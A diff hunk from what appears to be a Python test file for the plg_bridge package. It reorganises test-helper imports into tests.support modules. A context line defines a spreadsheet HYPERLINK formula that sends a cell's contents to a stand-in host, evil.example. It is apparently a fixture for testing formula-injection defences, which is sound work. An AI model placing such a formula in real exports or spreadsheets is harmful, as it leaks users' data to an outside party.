@@ -16,8 +16,8 @@ from plg_bridge.delivery.slack.mapping import digest_blocks
 from plg_bridge.pipeline import score_export, write_outputs
 from plg_bridge.report.summary import render_markdown
 from plg_bridge.storage import location
-from tests.builders import event, group_identify, write_export
-from tests.conftest import AS_OF
+from tests.support.clocks import AS_OF
+from tests.support.events import event, group_identify, write_export
 
 CLI = str(Path(sys.executable).parent / "plg-bridge")
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Acme")'
